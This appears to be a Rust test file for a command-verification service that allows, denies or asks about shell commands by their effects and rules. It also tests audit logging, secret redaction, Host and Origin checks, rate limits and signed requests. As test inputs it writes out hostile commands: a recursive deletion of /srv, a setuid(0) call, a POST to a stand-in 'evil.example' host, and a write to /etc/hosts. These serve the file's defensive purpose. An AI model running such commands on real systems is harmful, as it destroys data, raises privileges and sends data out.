//! The service without a model, over both kinds of sockets.

use crate::support::{Verifier, rampart};
use serde_json::json;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixStream;

const DIGEST: &str = "6f04171813fb6bdf5e18626a3ded6c67a39ccbf55b3b845db087ed0479ba35cb";

const RULES: &str = "
rules:
  - {effects: [sends], on: ['https://ci.example/**'], decision: allow}
  - {effects: [installs], decision: deny}
";

#[test]
fn it_answers_by_effects_and_rules() {
    for listen in ["127.0.0.1:0", "unix:{root}/verify.sock"] {
        let verifier = Verifier::start(RULES, listen);
        for (command, decision, reason) in [
            ("python3 -c 'print(1)'", "allow", ""),
            ("python3 -c 'import shutil; shutil.rmtree(\"/srv\")'", "deny", "deletes outside"),
            ("python3 -c 'import os; os.setuid(0)'", "ask", "gains rights"),
            ("node -e \"fetch('https://ci.example/x', {method: 'POST'})\"", "allow", ""),
            (
                "node -e \"fetch('https://evil.example/x', {method: 'POST'})\"",
                "ask",
                "evil.example",
            ),
            ("pip install left-pad", "deny", "installs software"),
            ("python3 -c 'x(", "ask", "not known"),
        ] {
            let (found, answer) = verifier.ask(command);
            assert_eq!(found, decision, "{command}: {answer}");
            let said = answer["reason"].as_str().unwrap();
            assert!(said.contains(reason) && said.is_empty() == reason.is_empty(), "{answer}");
        }
        let events = verifier.events();
        assert_eq!(events.len(), 7);
        assert_eq!(
            (&events[1]["hook"], &events[1]["decision"]),
            (&json!("verify"), &json!("deny"))
        );
    }
}

#[test]
fn what_would_run_counts_and_not_what_is_shown() {
    let verifier = Verifier::start("{}", "127.0.0.1:0");
    let asked = |params: serde_json::Value| {
        let body = json!({"tool": "exec", "params": params}).to_string();
        let (status, text) = verifier.post(&body, "");
        assert_eq!(status, 200, "{text}");
        serde_json::from_str::<serde_json::Value>(&text).unwrap()["decision"].clone()
    };
    let shown = r"python3 -c 'import os\nos.remove(\x27/srv/x\x27)'";
    let shell = "python3 -c 'import os\nos.remove(\"/srv/x\")'";
    assert_eq!(asked(json!({"command": shown, "shell": shell, "cwd": "/w"})), "deny");
    assert_eq!(asked(json!({"command": "rm x", "cwd": "/w"})), "allow");
    // Where it is not known where, nothing is inside.
    assert_eq!(asked(json!({"command": "rm x"})), "ask");
    // A script is read where it lies.
    std::fs::write(verifier.root().join("t.py"), "open('/etc/hosts', 'w')").unwrap();
    let cwd = verifier.root().to_str().unwrap();
    assert_eq!(asked(json!({"command": "python3 t.py", "cwd": cwd})), "ask");
    let events = verifier.events();
    let script = &events.last().unwrap()["scripts"][0];
    assert!(script["path"].as_str().unwrap().ends_with("/t.py"), "{script}");
    // printf %s "open('/etc/hosts', 'w')" | sha256sum
    assert_eq!(script["sha256"], DIGEST, "whoever changes it later can be found out");
    let (_, other) = verifier.post(r#"{"tool": "fetch", "params": {"url": "https://x"}}"#, "");
    assert!(other.contains(r#""decision":"ask""#), "{other}");
}

#[test]
fn what_is_no_question_is_refused_and_secrets_are_not_recorded() {
    let verifier = Verifier::start("rate: 4\n", "127.0.0.1:0");
    for (body, more, status) in [
        ("{", "", 400),
        (r#"{"params": 1}"#, "", 400),
        ("{}", "Origin: https://page.example\r\n", 403),
    ] {
        assert_eq!(verifier.post(body, more).0, status, "{body} {more}");
    }
    let get = |path: &str, host: &str| {
        verifier.say(&format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")).0
    };
    assert_eq!(get("/health", "127.0.0.1"), 200);
    assert_eq!(get("/health", "rebound.example"), 421);
    assert_eq!(get("/verify", "localhost"), 405);
    assert_eq!(get("/else", "localhost"), 404);
    let _ = verifier.ask("curl -H 'Authorization: Bearer s3cr3ts3cr3ts3cr3t' https://x.example");
    let events = verifier.events();
    let line = events.last().unwrap().to_string();
    assert!(!line.contains("s3cr3t"), "{line}");
    // Two bodies that were none counted, too.
    let _ = verifier.ask("true");
    assert_eq!(verifier.post("{}", "").0, 429);
}

/// Where no descriptor is free it waits for one: it starts no threads meanwhile, and answers afterwards.
#[test]
fn clients_that_say_nothing_cost_no_more_than_descriptors() {
    let verifier = Verifier::start("{}", "unix:{root}/v.sock");
    let pid = rustix::process::Pid::from_raw(verifier.pid().cast_signed());
    let few = rustix::process::Rlimit { current: Some(24), maximum: Some(24) };
    rustix::process::prlimit(pid, rustix::process::Resource::Nofile, few).unwrap();
    let socket = verifier.root().join("v.sock");
    let silent: Vec<_> = (0..40).map(|_| UnixStream::connect(&socket).unwrap()).collect();
    let tasks = format!("/proc/{}/task", verifier.pid());
    for _ in 0..20 {
        std::thread::sleep(std::time::Duration::from_millis(20));
        let threads = std::fs::read_dir(&tasks).unwrap().count();
        assert!(threads < 40, "{threads} threads for 24 descriptors");
    }
    drop(silent);
    assert_eq!(verifier.ask("true").0, "allow");
}

#[test]
fn a_key_makes_every_question_signed() {
    let root = tempfile::tempdir().unwrap();
    let key = root.path().join("key");
    std::fs::write(&key, "0123456789abcdef0123456789abcdef").unwrap();
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
    let verifier = Verifier::start(&format!("key: {}\n", key.display()), "unix:{root}/v.sock");
    assert_eq!(verifier.post("{}", "").0, 401);
    let mode = std::fs::metadata(verifier.root().join("v.sock")).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
}

#[test]
fn a_configuration_with_errors_starts_nothing() {
    let root = tempfile::tempdir().unwrap();
    let file = root.path().join("v.yaml");
    for (text, listen, said) in [
        ("rules: [{effects: [sends], decision: perhaps}]", "127.0.0.1:0", "perhaps"),
        ("{}", "0.0.0.0:0", "reached from elsewhere"),
        ("key: /nowhere", "127.0.0.1:0", "/nowhere"),
    ] {
        std::fs::write(&file, text).unwrap();
        let mut command = rampart();
        command.env("HOME", root.path()).args(["verify", "serve", "--listen", listen, "--config"]);
        let out = command.arg(&file).output().unwrap();
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert_eq!(out.status.code(), Some(2), "{stderr}");
        assert!(stderr.contains(said), "{stderr}");
    }
}

#[test]
fn nothing_goes_ahead_that_cannot_be_recorded() {
    let verifier = Verifier::start("{}", "127.0.0.1:0");
    assert_eq!(verifier.ask("python3 -c 'print(1)'").0, "allow");
    // As on a full disk: the file takes no line more.
    for entry in std::fs::read_dir(verifier.root().join("audit")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|end| end == "jsonl") {
            std::fs::remove_file(&path).unwrap();
            std::fs::create_dir(&path).unwrap();
        }
    }
    let (decision, answer) = verifier.ask("python3 -c 'print(1)'");
    assert_eq!(decision, "none", "{answer}");
    assert!(answer["reason"].as_str().unwrap().contains("could not be recorded"), "{answer}");
    assert_eq!(verifier.ask("rm -rf /srv").0, "deny");
}
